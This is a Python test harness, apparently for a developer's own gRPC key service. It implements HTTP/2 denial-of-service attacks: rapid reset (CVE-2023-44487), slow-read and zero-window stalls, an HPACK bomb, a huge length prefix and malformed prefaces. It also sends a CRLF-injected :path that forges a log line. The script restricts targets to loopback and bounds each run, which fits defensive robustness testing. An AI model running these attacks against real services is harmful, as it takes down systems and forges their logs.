#!/usr/bin/python3
"""A raw HTTP/2 client (RFC 9113 frames written by hand, header blocks by the hpack package that python3-h2 brings) that
attacks a gRPC key service the ways issue #47 lists. Every mode is bounded in time and size and talks to loopback or a unix
socket only. It prints one JSON object with what it did.

  h2_attacker.py MODE TARGET [--seconds S] [--message-b64 B64] [--connections N] [--path PATH]

TARGET is host:port (loopback) or unix:///path. MODE:
  rapid-reset     HEADERS + DATA(END_STREAM) + RST_STREAM(CANCEL) in a loop (CVE-2023-44487), reading and following GOAWAY
  rapid-reset-no-read   the same without ever reading; a connection whose writes stall is left open and another is opened
  big-bodies      N connections x 16 streams, each a body of 4 MiB without END_STREAM, sent within the flow-control windows
  idle            N connections that send nothing (every 4th only the preface), held S seconds; reports how many the server closed
  header-crlf     one request whose :path holds CR/LF and a forged log line; reports the server's answer
  call            one gRPC call on PATH with the message; reports grpc-status (used to send a recipient holding CR/LF)
  no-read         N connections with huge receive windows, each sending 6 calls of the message, never reading; then holds
  closed-window   N connections with a stream window of 0, each sending --streams calls (16) of the message and never a
                  WINDOW_UPDATE, reading all the while; reports how the server ended the streams (reset codes, gRPC statuses)
                  and the connections (GOAWAY codes, closed by the server, when)
  huge-prefix     one call on PATH whose gRPC length prefix says 4 GiB - 1, with 10 bytes of it sent; reports the answer
  bad-preface     N connections each opening with a TLS ClientHello (or, with --garbage, 24 bytes that are not the preface);
                  reports how long the server kept each open and whether it sent a GOAWAY
  hpack-bomb      S seconds of connections, each sending one header block that references a 4 KiB dynamic-table entry until
                  it decodes past the header limits; reports the connections closed with and without a GOAWAY
"""
import base64
import json
import resource
import select
import socket
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x8
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL = 0x8


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def connect(target, timeout=5.0):
    if target.startswith("unix://"):
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        sock.settimeout(timeout)
        sock.connect(target[len("unix://"):])
    else:
        host, port = target.rsplit(":", 1)
        if host not in ("127.0.0.1", "localhost", "::1", "[::1]"):
            raise SystemExit("loopback only")
        sock = socket.create_connection((host.strip("[]"), int(port)), timeout=timeout)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return sock


def request_headers(encoder, path):
    return encoder.encode([
        (":method", "POST"), (":scheme", "http"), (":authority", "keyservice"), (":path", path),
        ("content-type", "application/grpc"), ("te", "trailers"),
    ])


def grpc_message(message):
    return b"\x00" + struct.pack(">I", len(message)) + message


class FrameReader:
    """Frames from whatever has been received so far (non-blocking reads)."""

    def __init__(self, sock):
        self.sock, self.buffer, self.closed, self.error = sock, b"", False, None

    def poll(self, wait=0.0):
        frames = []
        while not self.closed:
            ready, _, _ = select.select([self.sock], [], [], wait)
            wait = 0.0
            if not ready:
                break
            try:
                chunk = self.sock.recv(1 << 16)
            except (BlockingIOError, socket.timeout):
                break
            except OSError as e:
                self.closed, self.error = True, type(e).__name__
                break
            if not chunk:
                self.closed = True
                break
            self.buffer += chunk
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                break
            kind, flags = self.buffer[3], self.buffer[4]
            stream = int.from_bytes(self.buffer[5:9], "big") & 0x7FFFFFFF
            frames.append((kind, flags, stream, self.buffer[9:9 + length]))
            self.buffer = self.buffer[9 + length:]
        return frames


def open_h2(target, settings=b"", timeout=5.0):
    sock = connect(target, timeout)
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
    return sock


def rapid_reset(target, seconds, message, read):
    deadline = time.monotonic() + seconds
    body = grpc_message(message)
    report = {"streams": 0, "connections": 0, "goaways": [], "stalled": 0, "errors": 0}
    held = []
    while time.monotonic() < deadline:
        try:
            sock = open_h2(target, timeout=1.0)
        except OSError:
            report["errors"] += 1
            time.sleep(0.05)
            continue
        report["connections"] += 1
        reader, encoder, stream = FrameReader(sock), hpack.Encoder(), 1
        try:
            while time.monotonic() < deadline and stream < 2 ** 31 - 200:
                batch = b""
                for _ in range(50):
                    batch += frame(HEADERS, END_HEADERS, stream, request_headers(encoder, "/KeyService/Decrypt"))
                    batch += frame(DATA, END_STREAM, stream, body)
                    batch += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
                    stream += 2
                sock.sendall(batch)
                report["streams"] += 50
                if read:
                    frames = reader.poll()
                    away = [f for f in frames if f[0] == GOAWAY]
                    if away or reader.closed:
                        if away:
                            report["goaways"].append(int.from_bytes(away[0][3][4:8], "big"))
                        break
                    acks = b"".join(frame(SETTINGS, ACK, 0) for f in frames if f[0] == SETTINGS and not f[1] & ACK)
                    if acks:
                        sock.sendall(acks)
        except socket.timeout:
            report["stalled"] += 1
        except OSError:
            report["errors"] += 1
        if read or len(held) >= 64:
            sock.close()
        else:
            held.append(sock)
    for sock in held:
        sock.close()
    report["goaways"] = sorted(set(report["goaways"]))
    return report


def big_bodies(target, seconds, connections):
    """16 streams per connection, each up to 4 MiB of body without END_STREAM, within the windows the server grants."""
    deadline = time.monotonic() + seconds
    chunk = b"\x00" * 16384
    first = grpc_message(b"")[:1] + struct.pack(">I", 64 * 1024) + chunk[5:]
    report = {"connections": 0, "streams": 0, "body_bytes_sent": 0, "resets": 0, "goaways": [], "errors": 0}
    conns = []
    for _ in range(connections):
        sock = open_h2(target)
        sock.setblocking(False)
        report["connections"] += 1
        encoder = hpack.Encoder()
        streams = {}
        headers = b""
        for i in range(16):
            sid = 1 + 2 * i
            headers += frame(HEADERS, END_HEADERS, sid, request_headers(encoder, "/KeyService/Encrypt"))
            streams[sid] = {"window": 65535, "sent": 0}
        sock.setblocking(True)
        sock.sendall(headers)
        sock.setblocking(False)
        report["streams"] += 16
        conns.append({"sock": sock, "reader": FrameReader(sock), "window": 65535, "streams": streams, "initial": 65535})
    while time.monotonic() < deadline and conns:
        progressed = False
        for conn in list(conns):
            for kind, flags, sid, payload in conn["reader"].poll():
                if kind == SETTINGS and not flags & ACK:
                    for i in range(0, len(payload), 6):
                        ident, value = struct.unpack(">HI", payload[i:i + 6])
                        if ident == 0x4:
                            delta = value - conn["initial"]
                            conn["initial"] = value
                            for s in conn["streams"].values():
                                s["window"] += delta
                    try:
                        conn["sock"].send(frame(SETTINGS, ACK, 0))
                    except OSError:
                        pass
                elif kind == WINDOW_UPDATE:
                    increment = int.from_bytes(payload[:4], "big") & 0x7FFFFFFF
                    if sid == 0:
                        conn["window"] += increment
                    elif sid in conn["streams"]:
                        conn["streams"][sid]["window"] += increment
                elif kind == RST_STREAM and sid in conn["streams"]:
                    report["resets"] += 1
                    del conn["streams"][sid]
                elif kind == GOAWAY:
                    report["goaways"].append(int.from_bytes(payload[4:8], "big"))
            if conn["reader"].closed or not conn["streams"]:
                conn["sock"].close()
                conns.remove(conn)
                continue
            for sid, s in list(conn["streams"].items()):
                size = min(len(chunk), s["window"], conn["window"], 4 * 1024 * 1024 - s["sent"])
                if size <= 0:
                    continue
                # the body opens with a gRPC message as large as the server accepts (64 KiB), and goes on past it
                data = (first if s["sent"] == 0 else chunk)[:size]
                try:
                    sent = conn["sock"].send(frame(DATA, 0, sid, data))
                except (BlockingIOError, socket.timeout):
                    break
                except OSError:
                    report["errors"] += 1
                    break
                if sent < 9 + size:
                    # a partial frame would break the framing: finish it blocking (bounded by the socket timeout)
                    conn["sock"].setblocking(True)
                    conn["sock"].settimeout(2.0)
                    try:
                        conn["sock"].sendall(frame(DATA, 0, sid, data)[sent:])
                    except OSError:
                        report["errors"] += 1
                        conn["reader"].closed = True
                        break
                    finally:
                        conn["sock"].setblocking(False)
                s["window"] -= size
                conn["window"] -= size
                s["sent"] += size
                report["body_bytes_sent"] += size
                progressed = True
        if not progressed:
            time.sleep(0.01)
    for conn in conns:
        conn["sock"].close()
    report["goaways"] = sorted(set(report["goaways"]))
    return report


def idle(target, seconds, connections):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, connections + 64)), hard))
    socks, refused = [], 0
    for i in range(connections):
        try:
            sock = connect(target, timeout=2.0)
            if i % 4 == 0:
                sock.sendall(PREFACE)
            socks.append(sock)
        except OSError:
            refused += 1
    opened = len(socks)
    deadline = time.monotonic() + seconds
    closed_at, by_fd = {}, {sock.fileno(): sock for sock in socks}
    poller = select.poll()  # select() stops at descriptor 1023
    for fd in by_fd:
        poller.register(fd, select.POLLIN | select.POLLHUP | select.POLLERR)
    while time.monotonic() < deadline and len(closed_at) < opened:
        for fd, _ in poller.poll(200):
            try:
                data = by_fd[fd].recv(1 << 16)
            except OSError:
                data = b""
            if not data:
                closed_at[fd] = time.monotonic() - (deadline - seconds)
                poller.unregister(fd)
    for sock in socks:
        sock.close()
    times = sorted(closed_at.values())
    return {"opened": opened, "refused": refused, "closed_by_server": len(times),
            "last_closed_after_s": round(times[-1], 2) if times else None}


def single_call(target, path, message, body=None):
    """One call; with body, those bytes are sent as the start of a body that never ends (no END_STREAM)."""
    try:
        sock = open_h2(target)
        reader, encoder = FrameReader(sock), hpack.Encoder()
        data = frame(DATA, END_STREAM, 1, grpc_message(message)) if body is None else frame(DATA, 0, 1, body)
        sock.sendall(frame(HEADERS, END_HEADERS, 1, request_headers(encoder, path)) + data)
    except OSError as e:
        return {"headers": {}, "refused": str(e)}
    decoder, fields, reset, deadline = hpack.Decoder(), [], None, time.monotonic() + 10
    while time.monotonic() < deadline and not reader.closed:
        for kind, flags, sid, payload in reader.poll(0.2):
            if kind == SETTINGS and not flags & ACK:
                sock.sendall(frame(SETTINGS, ACK, 0))
            elif kind == HEADERS and sid == 1:
                fields += [(k if isinstance(k, str) else k.decode(), v if isinstance(v, str) else v.decode()) for k, v in decoder.decode(payload)]
                if flags & END_STREAM:
                    sock.close()
                    return {"headers": dict(fields), "reset": None}
            elif kind == RST_STREAM and sid == 1:
                sock.close()
                return {"headers": dict(fields), "reset": int.from_bytes(payload[:4], "big")}
            elif kind == GOAWAY:
                sock.close()
                return {"headers": dict(fields), "goaway": int.from_bytes(payload[4:8], "big")}
    sock.close()
    return {"headers": dict(fields), "timeout": True}


def no_read(target, seconds, message, connections):
    """Huge receive windows, calls whose answers are large, and never a read: the server's writes stall in the socket."""
    settings = struct.pack(">HI", 0x4, 2 ** 31 - 1)
    held, calls = [], 0
    body = grpc_message(message)
    stalled = 0
    for _ in range(connections):
        try:
            sock = open_h2(target, settings, timeout=2.0)
        except OSError:
            break
        held.append(sock)
        encoder = hpack.Encoder()
        batch = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2 ** 31 - 1 - 65535))
        for i in range(6):
            sid = 1 + 2 * i
            batch += frame(HEADERS, END_HEADERS, sid, request_headers(encoder, "/KeyService/Encrypt"))
            batch += frame(DATA, END_STREAM, sid, body)
        try:
            sock.sendall(batch)
            calls += 6
        except OSError:
            stalled += 1  # the server reads no more from this connection: its answers are stuck in the socket
    print(json.dumps({"connections": len(held), "calls": calls, "stalled": stalled, "holding": True}), flush=True)
    time.sleep(seconds)
    for sock in held:
        sock.close()
    return {"connections": len(held), "calls": calls}


def closed_window(target, seconds, message, connections, streams):
    """Stream windows of 0 and N calls per connection: the answers can only wait in the server for a window that never opens."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, connections + 64)), hard))
    settings = struct.pack(">HI", 0x4, 0)
    conns, report = [], {"connections": 0, "calls": 0, "refused": 0, "data_frames": 0, "resets": 0, "reset_codes": {},
                         "goaways": [], "closed_by_server": 0, "closed_with_goaway": 0, "most_waiting": 0, "unserved": 0}
    body = grpc_message(message)
    for _ in range(connections):
        try:
            sock = open_h2(target, settings, timeout=2.0)
            encoder, batch = hpack.Encoder(), b""
            for i in range(streams):
                sid = 1 + 2 * i
                batch += frame(HEADERS, END_HEADERS, sid, request_headers(encoder, "/KeyService/Decrypt")) + frame(DATA, END_STREAM, sid, body)
            sock.sendall(batch)
        except OSError:
            report["refused"] += 1
            continue
        sock.setblocking(False)
        # a stream waits until the server ends it (trailers or RST_STREAM) or closes the connection
        conns.append({"sock": sock, "reader": FrameReader(sock), "decoder": hpack.Decoder(), "goaway": False, "served": False,
                      "open": set(range(1, 2 * streams, 2))})
        report["connections"] += 1
        report["calls"] += streams
    print(json.dumps({"holding": True, "connections": report["connections"]}), flush=True)
    deadline, closed_at = time.monotonic() + seconds, []
    while time.monotonic() < deadline and conns:
        for conn in list(conns):
            for kind, flags, sid, payload in conn["reader"].poll():
                if kind == SETTINGS and not flags & ACK:
                    conn["served"] = True
                    try:
                        conn["sock"].send(frame(SETTINGS, ACK, 0))
                    except OSError:
                        pass
                elif kind == DATA:
                    report["data_frames"] += 1
                elif kind == HEADERS:
                    fields = dict((k if isinstance(k, str) else k.decode(), v if isinstance(v, str) else v.decode())
                                  for k, v in conn["decoder"].decode(payload))
                    if flags & END_STREAM:
                        conn["open"].discard(sid)
                        statuses = report.setdefault("statuses", {})
                        statuses[fields.get("grpc-status", "none")] = statuses.get(fields.get("grpc-status", "none"), 0) + 1
                elif kind == RST_STREAM:
                    conn["open"].discard(sid)
                    report["resets"] += 1
                    code = str(int.from_bytes(payload[:4], "big"))
                    report["reset_codes"][code] = report["reset_codes"].get(code, 0) + 1
                elif kind == GOAWAY:
                    report["goaways"].append(int.from_bytes(payload[4:8], "big"))
                    conn["goaway"] = True
            if conn["reader"].closed:
                # the answers the server held for this connection until it gave up on it
                if conn["served"]:
                    report["most_waiting"] = max(report["most_waiting"], len(conn["open"]))
                else:
                    report["unserved"] += 1  # closed as soon as accepted (over the connection cap)
                report["closed_by_server"] += 1
                report["closed_with_goaway"] += conn["goaway"]
                closed_at.append(round(seconds - (deadline - time.monotonic()), 2))
                conn["sock"].close()
                conns.remove(conn)
        time.sleep(0.05)
    for conn in conns:
        report["most_waiting"] = max(report["most_waiting"], len(conn["open"]))
        conn["sock"].close()
    report["goaways"] = sorted(set(report["goaways"]))
    report["last_closed_after_s"] = max(closed_at) if closed_at else None
    return report


def huge_prefix(target, path):
    """A length prefix of 2**32 - 1 bytes and 10 bytes of the message: the answer must come before any more is sent."""
    return single_call(target, path, None, body=b"\x00" + struct.pack(">I", 2 ** 32 - 1) + b"\x0a" * 10)


def client_hello():
    """A TLS ClientHello as a client configured for TLS opens with (two cipher suites, SNI "keyservice"): lengths computed."""
    host = b"keyservice"
    sni = struct.pack(">BH", 0, len(host)) + host
    sni = struct.pack(">H", len(sni)) + sni
    extensions = struct.pack(">HH", 0, len(sni)) + sni
    body = b"\x03\x03" + b"\x11" * 32 + b"\x00" + struct.pack(">H", 4) + bytes.fromhex("1301c02f") + b"\x01\x00"
    body += struct.pack(">H", len(extensions)) + extensions
    handshake = b"\x01" + struct.pack(">I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack(">H", len(handshake)) + handshake


def bad_preface(target, connections, garbage):
    opening = (b"GET / HTTP/1.1\r\nHost: k\r\n\r\n" if garbage == "http1" else b"\x17" * 24) if garbage else client_hello()
    results = []
    for _ in range(connections):
        sock = connect(target, timeout=2.0)
        sock.sendall(opening)
        started, data, closed = time.monotonic(), b"", False
        sock.settimeout(0.1)
        while time.monotonic() - started < 15:
            try:
                chunk = sock.recv(1 << 16)
            except socket.timeout:
                continue
            except OSError:
                closed = True
                break
            if not chunk:
                closed = True
                break
            data += chunk
        kinds = []
        while len(data) >= 9:
            length = int.from_bytes(data[:3], "big")
            kinds.append(data[3])
            data = data[9 + length:]
        results.append({"closed": closed, "after_s": round(time.monotonic() - started, 2), "goaway": GOAWAY in kinds})
        sock.close()
    return {"connections": len(results), "closed": sum(r["closed"] for r in results),
            "goaways": sum(r["goaway"] for r in results), "max_after_s": max(r["after_s"] for r in results)}


def hpack_bomb(target, seconds):
    """One header block per connection: a 4 KiB value put in the dynamic table, then indexed until it decodes to 4 MiB."""
    deadline = time.monotonic() + seconds
    report = {"connections": 0, "goaway": 0, "no_goaway": 0, "errors": 0, "goaway_codes": []}
    value = b"x" * 4000
    # literal with incremental indexing, new name (RFC 7541 §6.2.1), then 1,024 references to dynamic index 62
    name = b"x-bomb"
    literal = b"\x40" + bytes([len(name)]) + name + b"\x7f" + hpack_int(len(value) - 127) + value
    block = hpack.Encoder().encode([(":method", "POST"), (":scheme", "http"), (":path", "/KeyService/Decrypt"), (":authority", "k")])
    block += literal + b"\xbe" * 1024
    while time.monotonic() < deadline:
        try:
            sock = open_h2(target, timeout=2.0)
            sock.sendall(frame(HEADERS, END_HEADERS | END_STREAM, 1, block))
        except OSError:
            report["errors"] += 1
            continue
        report["connections"] += 1
        reader, goaway, started = FrameReader(sock), None, time.monotonic()
        while not reader.closed and goaway is None and time.monotonic() - started < 10:
            for kind, flags, sid, payload in reader.poll(0.2):
                if kind == GOAWAY:
                    goaway = int.from_bytes(payload[4:8], "big")  # then closes, as a client does
                elif kind == SETTINGS and not flags & ACK:
                    try:
                        sock.sendall(frame(SETTINGS, ACK, 0))
                    except OSError:
                        pass
        if goaway is not None:
            report["goaway"] += 1
            if goaway not in report["goaway_codes"]:
                report["goaway_codes"].append(goaway)
        else:
            report["no_goaway"] += 1
            report.setdefault("no_goaway_errors", {})[reader.error or "closed"] = report.setdefault("no_goaway_errors", {}).get(reader.error or "closed", 0) + 1
        sock.close()
    return report


def hpack_int(value):
    """The continuation bytes of an HPACK integer whose prefix is full (RFC 7541 §5.1)."""
    out = b""
    while value >= 128:
        out += bytes([(value % 128) + 128])
        value //= 128
    return out + bytes([value])


def main(argv):
    mode, target = argv[0], argv[1]
    options = dict(zip(argv[2::2], argv[3::2]))
    seconds = float(options.get("--seconds", "8"))
    message = base64.b64decode(options.get("--message-b64", ""))
    connections = int(options.get("--connections", "4"))
    if mode == "rapid-reset":
        result = rapid_reset(target, seconds, message, read=True)
    elif mode == "rapid-reset-no-read":
        result = rapid_reset(target, seconds, message, read=False)
    elif mode == "big-bodies":
        result = big_bodies(target, seconds, connections)
    elif mode == "idle":
        result = idle(target, seconds, connections)
    elif mode == "header-crlf":
        result = single_call(target, "/KeyService/Decrypt\r\n[KEYSERVICE]\t INFO[2000-01-01T00:00:00Z] forged by the path", message)
    elif mode == "call":
        result = single_call(target, options["--path"], message)
    elif mode == "no-read":
        result = no_read(target, seconds, message, connections)
    elif mode == "closed-window":
        result = closed_window(target, seconds, message, connections, int(options.get("--streams", "16")))
    elif mode == "huge-prefix":
        result = huge_prefix(target, options.get("--path", "/KeyService/Decrypt"))
    elif mode == "bad-preface":
        result = bad_preface(target, connections, options.get("--garbage"))
    elif mode == "hpack-bomb":
        result = hpack_bomb(target, seconds)
    else:
        raise SystemExit(f"unknown mode {mode}")
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
